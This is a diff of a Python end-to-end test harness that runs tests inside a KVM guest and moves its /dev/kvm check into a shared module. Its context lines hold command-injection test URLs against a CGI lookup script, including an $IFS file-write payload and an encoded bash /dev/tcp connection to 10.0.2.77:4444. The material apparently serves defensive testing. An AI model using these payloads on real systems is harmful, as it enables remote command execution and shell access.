@@ -14,6 +14,9 @@ from stand import PATIENCE, Stand, main, require, skip, until
 
 HERE = os.path.dirname(os.path.abspath(__file__))
 SOURCE = os.path.dirname(os.path.dirname(HERE))
+sys.path.insert(0, os.path.join(SOURCE, "tests", "kvm"))
+import outer  # noqa: E402
+
 TWIN = "/cgi-bin/lookup?host=localhost&note=a;b"
 WRITES = "/cgi-bin/lookup?host=localhost;touch$IFS/var/www/touched/%s"
 CALLS = "/cgi-bin/lookup?host=localhost%3Bbash+-c+%27exec+3%3C%3E/dev/tcp/10.0.2.77/4444%27"
@@ -66,14 +69,6 @@ def its_clones_may_be_on_kvm():
 # ---- The outer machine ---------------------------------------------------------------------------------------------------
 
 
-def usable():
-    """Is there a /dev/kvm that engine auto would take?"""
-    tried = glob.glob(os.path.join(os.path.abspath(sys.argv[1]), "src", "cli", "foretaste"))
-    if not tried or not os.access("/dev/kvm", os.R_OK | os.W_OK):
-        return False
-    return not os.path.exists("/sys/module/kvm_pvm")
-
-
 def everything_below(path, at, files, unwanted=()):
     for directory, names, here in os.walk(path):
         names[:] = [n for n in names if n not in unwanted]
@@ -82,8 +77,6 @@ def everything_below(path, at, files, unwanted=()):
 
 
 def in_outer_machine():
-    sys.path.insert(0, os.path.join(SOURCE, "tests", "kvm"))
-    import outer
     images = sys.argv[2] if len(sys.argv) > 2 else os.path.join(outer.CACHE, "guest", "web")
     if not os.path.exists(os.path.join(images, "vmlinuz")):
         skip("no guest image in %s (deploy/guest/build makes it)" % images)
@@ -92,6 +85,7 @@ def in_outer_machine():
         skip("no outer machine: %s" % why)
     files = {}
     everything_below(HERE, "/project/tests/e2e", files, ("__pycache__",))
+    everything_below(os.path.join(SOURCE, "tests", "kvm"), "/project/tests/kvm", files, ("__pycache__",))
     everything_below(os.path.join(SOURCE, "config"), "/project/config", files)
     everything_below(images, "/images", files)
     del files["/images/./root.ext4"]
@@ -117,7 +111,7 @@ def in_outer_machine():
     return 1 if status is None or "SKIP" in text else status
 
 
-if not usable():
+if not outer.usable():
     if os.path.exists("/job"):  # of the outer machine: that it has none is a fault
         print("FAIL: no usable /dev/kvm")
         sys.exit(1)
